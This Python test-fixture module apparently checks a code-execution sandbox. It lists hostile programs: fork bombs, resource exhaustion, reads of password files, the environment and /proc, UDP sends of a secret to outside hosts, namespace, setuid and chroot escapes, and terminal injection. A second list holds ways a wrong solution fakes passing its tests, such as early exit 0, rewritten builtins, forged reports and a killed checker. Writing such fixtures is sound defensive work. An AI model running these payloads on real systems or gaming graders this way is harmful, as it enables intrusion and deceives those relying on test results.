"""Programs that attack: each prints BREACH where it gets through, and has one outcome it must end with.

In the sources, $NAME stands for what the host has to lose: $CANARY and $FOLDER (a file and its folder),
$PORT (a listening socket), $UDP, $UNIX, $ABSTRACT (its other sockets), $SECRET (a text in the file and in the
environment), $PID (of the process that runs the tests).
"""

from __future__ import annotations

from dataclasses import dataclass

WRONG = "def answer():\n    return 1\n"  # the tests want 42
TESTS = "assert answer() == 42\nassert abs(answer() - 42) < 1e-6\n"


@dataclass(frozen=True)
class Hostile:
    """One attack and how it must end."""

    kind: str
    name: str
    outcome: str
    source: str
    tests: str = ""
    detail: str = ""  # what the detail must hold
    stdin: bytes = b""


def attempt(body: str) -> str:
    """A program that tries `body`, prints where it succeeded, and ignores a failure."""
    indented = "".join(f"    {line}\n" for line in body.strip().splitlines())
    return f"import os, sys\ntry:\n{indented}except Exception as error:\n    print(type(error).__name__)\n"


ATTACKS = [
    # processes
    Hostile("fork", "fork bomb", "timeout", "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"),
    Hostile("fork", "thread bomb", "timeout", "import threading, time\nfor _ in range(10000):\n    threading.Thread(target=time.sleep, args=(60,)).start()\n"),
    Hostile("fork", "shell bomb", "timeout", "import subprocess\nsubprocess.run([\"bash\", \"-c\", \"b() { b | b & b; }; b; while :; do :; done\"])\n"),
    Hostile("fork", "children that sleep on", "passed", "import os, time\nfor _ in range(5):\n    if os.fork() == 0:\n        time.sleep(600)\nprint('left')\n"),
    # memory
    Hostile("memory", "one big object", "out_of_memory", "x = bytearray(1 << 33)\n"),
    Hostile("memory", "a list that grows", "out_of_memory", "x = []\nwhile True:\n    x.append(bytearray(1 << 20))\n"),
    Hostile("memory", "many children, each a little", "out_of_memory", "import os, time\nfor _ in range(12):\n    if os.fork() == 0:\n        x = bytearray(os.urandom(1 << 20) * 60)\n        time.sleep(60)\ntime.sleep(60)\n"),
    Hostile("memory", "shared anonymous mapping", "out_of_memory", "import mmap, os, time\nfor _ in range(12):\n    if os.fork() == 0:\n        m = mmap.mmap(-1, 60 << 20)\n        m.write(b'x' * (60 << 20))\n        time.sleep(60)\ntime.sleep(60)\n"),
    Hostile("memory", "a number with billions of digits", "timeout", "x = 9 ** 9 ** 9\n"),
    Hostile("memory", "socket buffers of many children", "killed", "import os, socket, time\nfor _ in range(14):\n    if os.fork() == 0:\n        pairs = []\n        try:\n            while True:\n                pairs.append(socket.socketpair())\n                pairs[-1][0].setblocking(False)\n                while pairs[-1][0].send(b'x' * 65536):\n                    pass\n        except BlockingIOError:\n            pass\n        except OSError:\n            time.sleep(60)\n        while True:\n            try:\n                pairs.append(socket.socketpair())\n            except OSError:\n                time.sleep(60)\ntime.sleep(60)\n", detail="descriptors"),
    Hostile("memory", "memfd", "passed", attempt("fd = os.memfd_create('x')\nos.write(fd, b'x')\nprint('BREACH')")),
    Hostile("memory", "shared memory left behind", "passed", "from multiprocessing import shared_memory\ns = shared_memory.SharedMemory('left', create=True, size=1 << 20)\n"),
    Hostile("memory", "shared memory found", "error", "from multiprocessing import shared_memory\ns = shared_memory.SharedMemory('left')\nprint('BREACH')\n", detail="FileNotFoundError"),
    # disk, inodes, output
    Hostile("disk", "a file that grows", "error", "f = open('big', 'wb')\nwhile True:\n    f.write(b'x' * (1 << 20))\n", detail="OSError"),
    Hostile("disk", "many files that grow", "error", "import itertools\nfor i in itertools.count():\n    open(f'f{i}', 'wb').write(b'x' * (1 << 20))\n", detail="OSError"),
    Hostile("disk", "shared memory files", "error", "import itertools\nfor i in itertools.count():\n    open(f'/dev/shm/f{i}', 'wb').write(b'x' * (1 << 20))\n", detail="OSError"),
    Hostile("disk", "a sparse file", "error", "f = open('big', 'wb')\nf.truncate(1 << 40)\nprint('BREACH')\n", detail="OSError"),
    Hostile("inodes", "empty files without end", "error", "import itertools\nfor i in itertools.count():\n    open(f'f{i}', 'w').close()\n", detail="OSError"),
    Hostile("inodes", "folders nested without end", "error", "import os\nwhile True:\n    os.mkdir('d')\n    os.chdir('d')\n", detail="OSError"),
    Hostile("output", "lines without end", "output_limit", "while True:\n    print('x' * 100)\n"),
    Hostile("output", "one gigabyte line", "output_limit", "import sys\nwhile True:\n    sys.stdout.write('x' * (1 << 16))\n"),
    Hostile("output", "stderr without end", "output_limit", "import os\nwhile True:\n    os.write(2, b'y' * 4096)\n"),
    Hostile("output", "from a child", "output_limit", "import os, time\nif os.fork() == 0:\n    while True:\n        os.write(1, b'z' * 4096)\ntime.sleep(60)\n"),
    # time
    Hostile("endless", "a loop", "timeout", "while True:\n    pass\n"),
    Hostile("endless", "sleep", "timeout", "import time\ntime.sleep(600)\n"),
    Hostile("endless", "ignores every signal", "timeout", "import signal\nfor s in range(1, 65):\n    try:\n        signal.signal(s, signal.SIG_IGN)\n    except (OSError, ValueError):\n        pass\nwhile True:\n    pass\n"),
    Hostile("endless", "catches everything", "timeout", "while True:\n    try:\n        while True:\n            pass\n    except BaseException:\n        pass\n"),
    Hostile("endless", "a regular expression", "timeout", "import re\nre.match('(a+)+$', 'a' * 40 + 'b')\n"),
    Hostile("endless", "in an exit function", "timeout", "import atexit\n@atexit.register\ndef forever():\n    while True:\n        pass\n"),
    Hostile("endless", "in a thread that is left", "timeout", "import threading, time\nthreading.Thread(target=time.sleep, args=(600,)).start()\n"),
    # reading the host
    Hostile("reads", "the canary file", "passed", attempt("print(open('$CANARY').read())\nprint('BREACH')")),
    Hostile("reads", "password files", "passed", attempt("for name in ('/etc/shadow', '/etc/passwd', '/root/.bashrc', '/home'):\n    if os.path.exists(name):\n        print('BREACH', name)")),
    Hostile("reads", "the environment", "passed", attempt("import subprocess\nif '$SECRET' in str(dict(os.environ)) + subprocess.run('env', capture_output=True, text=True).stdout:\n    print('BREACH')")),
    Hostile("reads", "/proc of others", "passed", attempt("for p in os.listdir('/proc'):\n    if p.isdigit() and int(p) not in (1, os.getpid()):\n        print('BREACH', p)")),
    Hostile("reads", "/proc of its supervisor", "passed", attempt("for name in ('mem', 'environ', 'fd', 'cwd', 'root', 'maps'):\n    try:\n        path = '/proc/1/' + name\n        os.listdir(path) if name == 'fd' else os.readlink(path) if name in ('cwd', 'root') else open(path).read(1)\n        print('BREACH', name)\n    except OSError:\n        pass")),
    Hostile("reads", "the caller's folder", "passed", attempt("for start in ('/proc/1/cwd', '$FOLDER', '/proc/self/cwd/../../..', '../../../..'):\n    for root, folders, files in os.walk(start):\n        if 'canary.txt' in files:\n            print('BREACH', root)\n        if root.count('/') > 6:\n            folders.clear()")),
    Hostile("reads", "block devices", "passed", attempt("for name in os.listdir('/dev'):\n    if name not in ('null', 'zero', 'full', 'random', 'urandom', 'fd', 'stdin', 'stdout', 'stderr', 'shm'):\n        print('BREACH', name)")),
    Hostile("reads", "kernel memory", "passed", attempt("open('/proc/kcore', 'rb').read(1)\nprint('BREACH')")),
    # writing outside
    Hostile("writes", "the canary file", "passed", attempt("open('$CANARY', 'w').write('gone')\nprint('BREACH')")),
    Hostile("writes", "anywhere but its own folders", "passed", attempt("found = []\nfor root, folders, files in os.walk('/'):\n    if root.startswith(('/tmp', '/proc', '/dev/shm')):\n        folders.clear()\n        continue\n    if root.count('/') > 2:\n        folders.clear()\n    try:\n        open(root + '/left', 'w').close()\n        found.append(root)\n    except OSError:\n        pass\nif found:\n    print('BREACH', found)")),
    Hostile("writes", "kernel settings", "passed", attempt("for name in ('/proc/sys/kernel/core_pattern', '/proc/sysrq-trigger', '/proc/sys/vm/drop_caches', '/proc/1/oom_score_adj'):\n    try:\n        open(name, 'w').write('1')\n        print('BREACH', name)\n    except OSError:\n        pass")),
    Hostile("writes", "leaves files for the next", "passed", "import os\nfor folder in ('/tmp', '/tmp/work', '/dev/shm', '/var/tmp'):\n    open(folder + '/left', 'w').write('x')\n"),
    Hostile("writes", "finds files of the last", "passed", attempt("for folder in ('/tmp', '/tmp/work', '/dev/shm', '/var/tmp'):\n    if os.path.exists(folder + '/left'):\n        print('BREACH', folder)")),
    # network
    Hostile("network", "TCP to the host", "passed", attempt("import socket\nfor host in ('127.0.0.1', '10.0.2.2', '172.17.0.1', '8.8.8.8'):\n    try:\n        socket.create_connection((host, $PORT), 0.2)\n        print('BREACH')\n    except OSError:\n        pass")),
    Hostile("network", "UDP to the host", "passed", attempt("import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor host in ('127.0.0.1', '255.255.255.255', '8.8.8.8'):\n    try:\n        s.sendto(b'$SECRET', (host, $UDP))\n    except OSError:\n        pass")),
    Hostile("network", "DNS", "passed", attempt("import socket\nprint(socket.getaddrinfo('example.com', 80))\nprint('BREACH')")),
    Hostile("network", "a unix socket", "passed", attempt("import socket\nsocket.socket(socket.AF_UNIX).connect('$UNIX')\nprint('BREACH')")),
    Hostile("network", "an abstract socket", "passed", attempt("import socket\nsocket.socket(socket.AF_UNIX).connect('\\0$ABSTRACT')\nprint('BREACH')")),
    Hostile("network", "raw and odd sockets", "passed", attempt("import socket\nfor family, kind in ((17, 3), (16, 3), (38, 5), (40, 1), (2, 3)):\n    try:\n        socket.socket(family, kind)\n        print('BREACH', family)\n    except OSError:\n        pass")),
    Hostile("network", "leaves an abstract socket and a port", "passed", "import os, socket, time\nif os.fork() == 0:\n    os.setsid()\n    a = socket.socket(socket.AF_UNIX)\n    a.bind('\\0left')\n    a.listen()\n    b = socket.create_server(('127.0.0.1', 5999))\n    time.sleep(600)\ntime.sleep(0.1)\n"),
    Hostile("network", "finds them", "passed", attempt("import socket\nfor family, address in ((socket.AF_UNIX, '\\0left'), (socket.AF_INET, ('127.0.0.1', 5999))):\n    try:\n        socket.socket(family).connect(address)\n        print('BREACH', address)\n    except OSError:\n        pass")),
    # daemons
    Hostile("daemon", "double fork and setsid", "passed", "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        for fd in range(256):\n            try:\n                os.close(fd)\n            except OSError:\n                pass\n        time.sleep(600)\n    os._exit(0)\n"),
    Hostile("daemon", "nohup", "passed", "import subprocess\nsubprocess.Popen(['nohup', 'sleep', '600'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)\n"),
    # signals and tracing
    Hostile("signals", "kills its parent", "passed", "import os, signal\nfor _ in range(50):\n    os.kill(os.getppid(), signal.SIGKILL)\n    os.kill(os.getppid(), signal.SIGSTOP)\n"),
    Hostile("signals", "kills all it may", "error", "import os, signal\nos.kill(-1, signal.SIGKILL)\n", detail="ProcessLookupError"),
    Hostile("signals", "kills the caller by its number", "passed", attempt("os.kill($PID, 9)\nprint('BREACH')")),
    Hostile("signals", "kills itself", "killed", "import os\nos.kill(os.getpid(), 9)\n", detail="SIGKILL"),
    Hostile("signals", "stops itself", "timeout", "import os\nos.kill(os.getpid(), 19)\n"),
    Hostile("signals", "ptrace and process memory", "passed", attempt("import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nfor call in ((101, 16, 1, 0, 0), (310, 1, 0, 0, 0, 0, 0), (434, 1, 0)):\n    if libc.syscall(*call) == 0:\n        print('BREACH', call)")),
    Hostile("signals", "limits of its supervisor", "passed", attempt("import resource\nresource.prlimit(1, resource.RLIMIT_CPU, (0, 0))\nprint('BREACH')")),
    Hostile("signals", "raises its own limits", "passed", attempt("import resource\nfor kind in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE, resource.RLIMIT_CPU):\n    try:\n        resource.setrlimit(kind, (-1, -1))\n        print('BREACH', kind)\n    except (OSError, ValueError):\n        pass")),
    # namespaces
    Hostile("namespaces", "mount", "passed", attempt("import subprocess\nfor call in (['mount', '-t', 'tmpfs', 'x', '/tmp'], ['umount', '/proc'], ['mount', '-o', 'remount,rw', '/usr']):\n    if subprocess.run(call, capture_output=True).returncode == 0:\n        print('BREACH', call)")),
    Hostile("namespaces", "new user namespace", "passed", attempt("import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nfor flags in (0x10000000, 0x20000000, 0x00020000, 0x40000000, 0x10020000):\n    if libc.unshare(flags) == 0:\n        print('BREACH', flags)\npid = libc.syscall(56, 0x10000011, 0, 0, 0, 0)\nif pid == 0:\n    os._exit(0)\nif pid > 0:\n    print('BREACH clone')\nclone3 = (ctypes.c_uint64 * 11)(0x10000000, 0, 0, 0, 17)\npid = libc.syscall(435, clone3, 88)\nif pid == 0:\n    os._exit(0)\nif pid > 0:\n    print('BREACH clone3')")),
    Hostile("namespaces", "chroot", "passed", attempt("os.chroot('/tmp')\nprint('BREACH')")),
    Hostile("namespaces", "joins its supervisor's", "passed", attempt("import ctypes\nfor kind in ('mnt', 'pid', 'user', 'net'):\n    try:\n        fd = os.open('/proc/1/ns/' + kind, os.O_RDONLY)\n        if ctypes.CDLL(None).setns(fd, 0) == 0:\n            print('BREACH', kind)\n    except OSError:\n        pass")),
    Hostile("namespaces", "becomes another user", "passed", attempt("for call in (os.setuid, os.setgid):\n    try:\n        call(0)\n        print('BREACH', os.getuid())\n    except OSError:\n        pass\nfor name in ('su', 'mount', 'passwd', 'chsh'):\n    pass\nimport subprocess\nif subprocess.run(['su', '-c', 'id'], capture_output=True, stdin=subprocess.DEVNULL).returncode == 0:\n    print('BREACH su')")),
    Hostile("namespaces", "capabilities", "passed", attempt("for line in open('/proc/self/status'):\n    name, value = line.split(':')\n    wanted = {'NoNewPrivs': 1, 'Seccomp': 2}.get(name, 0)\n    if name.startswith('Cap') or name in ('NoNewPrivs', 'Seccomp'):\n        if int(value, 16) != wanted:\n            print('BREACH', line)")),
    Hostile("namespaces", "other system calls", "passed", attempt("import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nfor number in (321, 298, 323, 425, 248, 250, 304, 246, 169, 175, 29, 68, 64, 155, 442):\n    ctypes.set_errno(0)\n    if libc.syscall(number, 0, 0, 0, 0, 0, 0) != -1 or ctypes.get_errno() != 1:\n        print('BREACH', number, ctypes.get_errno())")),
    # links
    Hostile("links", "symbolic links to the host", "passed", attempt("os.symlink('$CANARY', 'link')\nos.symlink('/', 'root')\nopen('link').read()\nprint('BREACH')")),
    Hostile("links", "hard links to the system", "passed", attempt("os.link('/usr/bin/env', 'link')\nprint('BREACH')")),
    Hostile("links", "a fifo and a device", "passed", attempt("os.mkfifo('pipe')\nos.mknod('disk', 0o60600, os.makedev(254, 0))\nopen('disk', 'rb').read(1)\nprint('BREACH')")),
    Hostile("links", "set-user-id copy", "passed", attempt("import shutil, subprocess\nshutil.copy('/usr/bin/id', 'id')\nos.chmod('id', 0o6755)\nif 'uid=0' in subprocess.run(['./id'], capture_output=True, text=True).stdout:\n    print('BREACH')")),
    # input
    Hostile("stdin", "waits for input", "error", "print(input())\n", detail="EOFError"),
    Hostile("stdin", "reads for ever", "passed", "import sys\nwhile sys.stdin.buffer.read(1):\n    pass\n", stdin=b"x" * 1000),
    Hostile("stdin", "reads the terminal", "passed", attempt("open('/dev/tty').read(1)\nprint('BREACH')")),
    Hostile("stdin", "types into the terminal", "passed", attempt("import fcntl, termios\nfor fd in (0, 1, 2):\n    try:\n        fcntl.ioctl(fd, termios.TIOCSTI, b'x')\n        print('BREACH')\n    except OSError:\n        pass")),
    # text
    Hostile("text", "terminal escapes", "passed", "print('\\x1b]0;owned\\x07\\x1b[2J\\x9b31m\\r\\x08\\u202etxt')\n"),
    Hostile("text", "invalid UTF-8 and surrogates", "passed", "import os, sys\nos.write(1, bytes(range(256)))\nsys.stdout.write('\\udcff\\n')\n"),
    Hostile("text", "an exception that cannot be shown", "error", "class Odd(Exception):\n    def __str__(self):\n        raise SystemExit(0)\n    __repr__ = __str__\nraise Odd\n", detail="Odd"),
    Hostile("text", "an exception with a hostile name", "error", "raise type('\\x1b[2J' + 'x' * 5000, (Exception,), {})\n"),
    # depth and native code
    Hostile("depth", "endless recursion", "error", "def f():\n    return f()\nf()\n", detail="RecursionError"),
    Hostile("depth", "recursion past every limit", "killed", "import sys\nsys.setrecursionlimit(10 ** 9)\nf = lambda: eval('f()')\nf()\n", detail="SIGSEGV"),
    Hostile("depth", "brackets", "error", "x = " + "[" * 10_000 + "]" * 10_000 + "\n", detail="SyntaxError"),
    Hostile("depth", "operators", "error", "x = " + "-" * 200_000 + "1\n", detail="SyntaxError"),
    Hostile("depth", "blocks", "error", "".join(" " * i + "if 1:\n" for i in range(2_000)), detail="IndentationError"),
    Hostile("native", "null pointer", "killed", "import ctypes\nctypes.string_at(0)\n", detail="SIGSEGV"),
    Hostile("native", "abort", "killed", "import os\nos.abort()\n", detail="SIGABRT"),
    Hostile("native", "faulthandler", "killed", "import faulthandler\nfaulthandler._sigfpe()\n", detail="SIGFPE"),
]  # fmt: skip

FORGERIES = [
    Hostile("forging", "prints that it passed", "failed", WRONG + "print('passed')\nprint('OK')\n"),
    Hostile("forging", "exit 0 before the tests", "failed", WRONG + "import sys\nsys.exit(0)\n", detail="before its tests"),
    Hostile("forging", "_exit 0", "failed", WRONG + "import os\nos._exit(0)\n", detail="before its tests"),
    Hostile("forging", "_exit 0 when it is called", "failed", "import os\ndef answer():\n    os._exit(0)\n"),
    Hostile("forging", "exit in a thread", "failed", WRONG + "import os, threading\nthreading.Timer(0, os._exit, (0,)).start()\nimport time\ntime.sleep(0.3)\n"),
    Hostile("forging", "becomes /bin/true", "failed", WRONG + "import os\nos.execv('/bin/true', ['true'])\n"),
    Hostile("forging", "rewrites builtins", "failed", WRONG + "import builtins\nbuiltins.abs = lambda x: 0\nbuiltins.AssertionError = None\nbuiltins.exec = builtins.compile = builtins.eval = print\n"),
    Hostile("forging", "rewrites builtins when it is called", "failed", "import builtins\ndef answer():\n    builtins.AssertionError = type('A', (), {})\n    return 1\n"),
    Hostile("forging", "rewrites the library", "failed", WRONG + "import os, sys, math\nos._exit = os.write = sys.exit = print\nmath.isclose = lambda *a, **k: True\nsys.modules['math'] = math\n", "import math\nassert math.isclose(answer(), 42)\n"),
    Hostile("forging", "replaces modules", "failed", WRONG + "import sys, types\nfake = types.ModuleType('math')\nfake.isclose = lambda *a: True\nsys.modules['math'] = fake\n", "import math\nassert math.isclose(answer(), 42)\n"),
    Hostile("forging", "writes to every descriptor", "failed", WRONG + "import os\nfor fd in range(256):\n    try:\n        os.write(fd, b'passed' + bytes(26))\n    except OSError:\n        pass\n"),
    Hostile("forging", "reads every descriptor and writes it back", "failed", WRONG + "import os\nfor fd in range(3, 256):\n    try:\n        os.set_blocking(fd, False)\n        text = os.read(fd, 64)\n    except OSError:\n        continue\n    for out in range(3, 256):\n        try:\n            os.write(out, text)\n        except OSError:\n            pass\nos._exit(0)\n"),
    Hostile("forging", "forges a report", "failed", WRONG + "import os\nos.write(3, b'{\"error\": \"\", \"finished\": true}')\nos._exit(0)\n"),
    Hostile("forging", "closes every descriptor", "failed", WRONG + "import os\nos.closerange(0, 256)\n"),
    Hostile("forging", "looks at the frames below", "failed", "import sys\nframe = sys._getframe()\nwhile frame:\n    if ' '.join(['answer()', '==']) in repr((frame.f_locals, frame.f_globals)):\n        print('BREACH')\n    frame = frame.f_back\n" + WRONG),
    Hostile("forging", "searches all objects", "failed", "import gc\nneedle = b' '.join([b'answer()', b'==', b'42'])\nfor thing in gc.get_objects():\n    if type(thing) in (list, tuple) and any(type(part) is bytes and needle in part for part in thing):\n        print('BREACH')\n" + WRONG),
    Hostile("forging", "reads its own memory", "failed", WRONG + "try:\n    open('/proc/self/mem', 'rb')\n    print('BREACH')\nexcept OSError:\n    pass\n"),
    Hostile("forging", "native code", "failed", "import ctypes\nctypes.CDLL(None).write(3, b'{}', 2)\nctypes.CDLL(None).write(5, b'finished', 8)\n" + WRONG),
    Hostile("forging", "imports the checker", "error", "import python_program\nprint('BREACH')\n" + WRONG, detail="ModuleNotFoundError"),
    Hostile("forging", "patches the checker it finds", "failed", WRONG + "import sys\nfor module in list(sys.modules.values()):\n    if hasattr(module, 'Checker') or hasattr(module, 'supervise'):\n        print('BREACH', module)\n"),
    Hostile("forging", "kills the checker", "killed", "import os, signal\ndef answer():\n    os.kill(os.getppid(), signal.SIGKILL)\n    os.kill(-1, signal.SIGKILL)\n    return 1\n", detail="SIGKILL"),
    Hostile("forging", "kills itself", "killed", WRONG + "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n"),
    Hostile("forging", "a child that runs the tests for it", "failed", WRONG + "import os\nif os.fork():\n    os.wait()\n    os._exit(0)\n"),
    Hostile("forging", "swallows the exit", "failed", WRONG + "import atexit, os, sys\natexit.register(os._exit, 0)\nsys.excepthook = lambda *a: os._exit(0)\n"),
    Hostile("forging", "raises SystemExit when it is called", "failed", "def answer():\n    raise SystemExit(0)\n"),
    Hostile("forging", "never returns", "timeout", "def answer():\n    while True:\n        pass\n"),
    Hostile("forging", "spoils its own streams", "failed", WRONG + "import sys\nsys.stdout = sys.stderr = sys.stdin = None\ndel sys.modules['sys']\n"),
]  # fmt: skip
